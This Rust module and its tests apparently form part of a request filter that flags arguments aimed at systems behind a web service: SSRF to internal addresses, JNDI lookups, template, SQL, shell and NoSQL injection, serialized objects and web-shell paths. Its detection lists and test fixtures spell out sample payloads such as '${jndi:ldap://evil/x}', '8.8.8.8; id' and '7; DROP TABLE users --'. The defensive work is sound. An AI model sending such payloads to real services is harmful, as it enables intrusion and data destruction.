//! What arguments carry that is not for the service they are sent to, but for what lies behind it: addresses that only the service
//! itself reaches, look-ups of loggers, expressions of templates, commands behind a host's name, statements behind a number. They count
//! where a connection names no functions.

use std::collections::BTreeMap;

use super::{
    call::Argument,
    grant::{plain, texts},
    request::Request,
    target::Target,
};

/// Longer texts are documents.
const LONGEST: usize = 4096;
/// Members that hold what people write, which may be about anything.
const PROSE: [&str; 20] = [
    "body",
    "comment",
    "content",
    "description",
    "input",
    "message",
    "note",
    "notes",
    "prompt",
    "q",
    "query",
    "question",
    "search",
    "sql",
    "statement",
    "subject",
    "summary",
    "text",
    "title",
    "value",
];

/// Whether an argument, or a field of the head, is meant for what lies behind the service.
pub(super) fn reaches_behind(request: &Request<'_>, target: &Target, arguments: &BTreeMap<String, Argument>) -> bool {
    let heads = request.fields.iter().filter_map(|(_, value)| std::str::from_utf8(value).ok());
    if heads.into_iter().any(is_lookup) || is_serialized(request) {
        return true;
    }
    let fetches = fetches(target);
    arguments.iter().any(|(name, value)| {
        let of = plain(name.rsplit(['/', '.']).next().unwrap_or_default());
        selects(name)
            || texts(value).into_iter().filter(|text| text.len() <= LONGEST).any(|text| {
                let prose = PROSE.contains(&of.as_str());
                is_lookup(text)
                    || addresses(&of) && is_inside(text, fetches)
                    || !prose && (is_expression(text) || is_appended(text))
                    || names_machine(&of) && runs_behind(text)
            })
    }) || is_back_door(target)
}

/// Parts of a path where a service gets something from elsewhere for its caller.
fn fetches(target: &Target) -> bool {
    const WORDS: [&str; 15] = [
        "convert",
        "crawl",
        "download",
        "fetch",
        "import",
        "oembed",
        "pdf",
        "preview",
        "proxy",
        "render",
        "scrape",
        "screenshot",
        "thumbnail",
        "unfurl",
        "webhooks",
    ];
    let last = target.segments.iter().rev().find(|segment| !segment.is_empty());
    last.is_some_and(|last| WORDS.contains(&last.to_ascii_lowercase().as_str()))
}

/// Members that hold an address which the service itself asks; those of redirects are for the caller's browser.
fn addresses(name: &str) -> bool {
    const NAMES: [&str; 20] = [
        "avatarurl",
        "dest",
        "destination",
        "endpoint",
        "feed",
        "feedurl",
        "fetch",
        "host",
        "href",
        "image",
        "imageurl",
        "link",
        "proxy",
        "remote",
        "source",
        "sourceurl",
        "src",
        "target",
        "uri",
        "url",
    ];
    NAMES.contains(&name) || matches!(name, "webhook" | "webhookurl" | "baseurl" | "targeturl" | "fileurl" | "pdfurl")
}

/// An address of the service's own machine; where it fetches for others, one of its network too.
fn is_inside(text: &str, fetches: bool) -> bool {
    let lower = text.trim().replace('\\', "/").to_ascii_lowercase();
    let Some((_, rest)) = lower.split_once("//") else { return false };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or(authority);
    let name = match host.strip_prefix('[') {
        Some(six) => six.split(']').next().unwrap_or_default(),
        None => host.split(':').next().unwrap_or_default(),
    };
    let name = name.trim_end_matches('.');
    let own = matches!(name, "localhost" | "0" | "::" | "::1" | "0:0:0:0:0:0:0:1" | "0.0.0.0" | "127.1")
        || name.ends_with(".localhost")
        || name.starts_with("127.") && name.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
        || name.starts_with("::ffff:127.")
        || name.starts_with("::ffff:7f")
        || ["localtest.me", "nip.io", "sslip.io", "lvh.me"].iter().any(|known| name.ends_with(known));
    own || octal(name) || fetches && is_private(name)
}

/// A part of an address in octal or hexadecimal digits: `0177.0.0.1`, `0x7f.1`.
fn octal(name: &str) -> bool {
    let parts: Vec<&str> = name.split('.').collect();
    parts.len() > 1
        && parts.iter().all(|part| part.starts_with(|c: char| c.is_ascii_digit()))
        && parts.iter().any(|part| part.len() > 1 && part.starts_with('0'))
}

fn is_private(name: &str) -> bool {
    let Ok(address) = name.parse::<core::net::IpAddr>() else { return name.ends_with(".internal") };
    match address {
        core::net::IpAddr::V4(four) => four.is_private() || four.is_link_local(),
        core::net::IpAddr::V6(six) => {
            six.segments().first().is_some_and(|first| matches!(first & 0xfe00, 0xfc00 | 0xfe00))
        }
    }
}

/// `${jndi:ldap://...}`, however its letters are made.
fn is_lookup(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.contains("${")
        && (lower.contains("${jndi:")
            || ["${lower:", "${upper:", "${::-", "${env:", "${sys:", "${java:", "${date:"]
                .iter()
                .any(|made| lower.contains(made)))
}

/// An expression that a template's engine would run.
fn is_expression(text: &str) -> bool {
    const REACHES: [&str; 12] = [
        "__class__",
        "__globals__",
        "__import__(",
        "__subclasses__",
        "child_process",
        "getruntime()",
        "java.lang.runtime",
        "os.popen",
        "os.system(",
        "processbuilder",
        "freemarker.template.utility.execute",
        "t(java.lang",
    ];
    const OPENS: [&str; 6] = ["{{", "${", "<%", "#{", "*{", "{%"];
    let lower = text.to_ascii_lowercase();
    OPENS.iter().any(|open| lower.contains(open)) && REACHES.iter().any(|reach| lower.contains(reach))
}

/// A statement behind a value: `7' OR '1'='1`, `7; DROP TABLE x`, `7 UNION SELECT ...`.
fn is_appended(text: &str) -> bool {
    const SIGNS: [&str; 16] = [
        "' or '",
        "\" or \"",
        "' or 1=1",
        " or 1=1",
        "' or true",
        " union select ",
        " union all select ",
        "; drop table ",
        "'; drop ",
        "; delete from ",
        "; truncate ",
        "; update ",
        "waitfor delay",
        "xp_cmdshell",
        "pg_sleep(",
        "' and sleep(",
    ];
    let plain: String = text.replace("/**/", " ").to_ascii_lowercase().split_whitespace().collect::<Vec<_>>().join(" ");
    let tight = plain.replace(" = ", "=");
    SIGNS.iter().any(|sign| tight.contains(sign)) || tight.ends_with(" union select")
}

/// Members that name a machine or a file, which services hand to programs.
fn names_machine(name: &str) -> bool {
    matches!(
        name,
        "host"
            | "hostname"
            | "ip"
            | "ipaddress"
            | "domain"
            | "addr"
            | "address"
            | "target"
            | "server"
            | "ping"
            | "dns"
            | "file"
            | "filename"
            | "path"
            | "dir"
            | "folder"
            | "interface"
            | "port"
    )
}

/// A command behind a name: `8.8.8.8; id`, `$(whoami)`.
fn runs_behind(text: &str) -> bool {
    const COMMANDS: [&str; 20] = [
        "bash", "busybox", "cat", "chmod", "curl", "dig", "env", "id", "ls", "nc", "ncat", "nslookup", "perl", "php",
        "ping", "python3", "rm", "sh", "sleep", "wget",
    ];
    let words = |piece: &str| {
        let piece = piece.trim_start();
        let end = piece.find(|c: char| !c.is_ascii_alphanumeric() && c != '/').unwrap_or(piece.len());
        let (word, rest) = piece.split_at(end);
        let over = rest.chars().next().is_none_or(|next| next.is_whitespace() || ";|&)`$<>".contains(next));
        let name = word.rsplit('/').next().unwrap_or_default();
        over && (name == word || word.starts_with('/'))
            && (COMMANDS.contains(&name) || matches!(name, "whoami" | "uname" | "python" | "telnet" | "touch"))
    };
    let substituted = text.split("$(").skip(1).any(words) || text.split('`').skip(1).step_by(2).any(words);
    substituted || text.split([';', '|', '&', '\n']).skip(1).any(words)
}

/// A search that is code, or one that any password fits: `{"password": {"$ne": null}}`.
fn selects(name: &str) -> bool {
    let parts: Vec<&str> = name.split(['/', '[', ']']).filter(|part| !part.is_empty()).collect();
    match parts.as_slice() {
        [.., "$where" | "$function" | "$accumulator"] => true,
        [.., of, operator] if operator.starts_with('$') => {
            let of = plain(of);
            ["password", "passwd", "pass", "token", "secret", "otp", "pin", "username", "login"].contains(&of.as_str())
        }
        _ => false,
    }
}

/// Objects of a language, which run code while they are read.
fn is_serialized(request: &Request<'_>) -> bool {
    let label = request.content_type().ok().flatten().unwrap_or_default().to_ascii_lowercase();
    label.contains("java-serialized") || label.contains("x-python-pickle") || label.contains("python-serialize")
}

/// `shell.php?cmd=id`
fn is_back_door(target: &Target) -> bool {
    let last = target.segments.last().map(|last| last.to_ascii_lowercase()).unwrap_or_default();
    let (stem, end) = last.split_once('.').unwrap_or_default();
    matches!(end, "php" | "jsp" | "jspx" | "asp" | "aspx" | "cgi" | "pl")
        && matches!(stem, "shell" | "cmd" | "c99" | "r57" | "webshell" | "backdoor" | "b374k" | "wso")
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    fn judged(target: &str, name: &str, value: &str) -> bool {
        let request = Request { method: "GET", target: target.as_bytes(), fields: &[], upgrade: false };
        let arguments = [(name.to_owned(), Argument::Text(value.to_owned()))].into();
        reaches_behind(&request, &Target::parse(target.as_bytes()).unwrap(), &arguments)
    }

    #[test]
    fn what_is_meant_for_what_lies_behind_is_told_from_everyday_values() {
        for (target, name, value) in [
            ("/fetch", "url", "http://localhost:22/"),
            ("/fetch", "url", "http://127.0.0.1:2375/containers/json"),
            ("/hooks", "/webhook/url", "http://[::1]/"),
            ("/hooks", "webhook_url", "http://user@127.0.0.1/"),
            ("/fetch", "url", "http://0177.0.0.1/"),
            ("/fetch", "url", "http://LOCALHOST./"),
            ("/proxy", "url", "http://10.0.0.5/"),
            ("/orders", "ref", "${jndi:ldap://evil/x}"),
            ("/orders", "ref", "${${lower:j}ndi:rmi://evil/x}"),
            ("/mail", "template", "{{config.__class__.__init__.__globals__}}"),
            ("/users", "id", "7' OR '1'='1"),
            ("/users", "id", "7/**/UNION/**/SELECT/**/password FROM users"),
            ("/users", "id", "7; DROP TABLE users --"),
            ("/ping", "host", "8.8.8.8; id"),
            ("/ping", "host", "$(whoami)"),
            ("/login", "/password/$ne", "x"),
            ("/find", "/filter/$where", "sleep(1000)"),
            ("/uploads/shell.php", "cmd", "id"),
        ] {
            assert!(judged(target, name, value), "{target} {name} {value}");
        }
        for (target, name, value) in [
            ("/fetch", "url", "https://example.org/a?b=localhost"),
            ("/oauth", "redirect_uri", "http://localhost:3000/callback"),
            ("/hooks", "url", "https://10.example.org/"),
            ("/monitors", "url", "http://10.0.0.5/health"),
            ("/orders", "ref", "${order}"),
            ("/mail", "template", "Hello {{name}}"),
            ("/notes", "text", "7' OR '1'='1 is how it is done"),
            ("/users", "name", "Conor O'Brien or 'Con'"),
            ("/users", "id", "7"),
            ("/ping", "host", "example.org"),
            ("/files", "path", "/photos/id.jpg"),
            ("/files", "filename", "a & b.pdf"),
            ("/batch", "/requests/0/path", "/orders?page=2&id=7"),
            ("/find", "/age/$gt", "7"),
            ("/shell.html", "cmd", "id"),
        ] {
            assert!(!judged(target, name, value), "{target} {name} {value}");
        }
    }
}
